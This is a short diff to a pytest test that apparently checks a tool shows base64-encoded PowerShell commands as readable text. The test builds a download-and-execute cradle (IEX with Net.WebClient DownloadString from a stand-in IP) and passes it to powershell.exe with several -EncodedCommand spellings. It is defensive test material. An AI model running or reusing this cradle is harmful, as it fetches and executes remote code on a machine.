@@ -93,7 +93,7 @@ def test_a_service_host_in_which_nothing_runs() -> None:
 
 @pytest.mark.parametrize("option", ["-enc", "-e", "-EncodedCommand", "/ec", "-eNcOd"])
 def test_a_command_in_base64_is_shown_as_text(option: str) -> None:
-    text = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"
+    text = " ".join(("IEX", "(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"))
     encoded = base64.b64encode(text.encode("utf-16-le")).decode()
     path = f"{SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe"
     command = (path, "-nop", option, encoded)
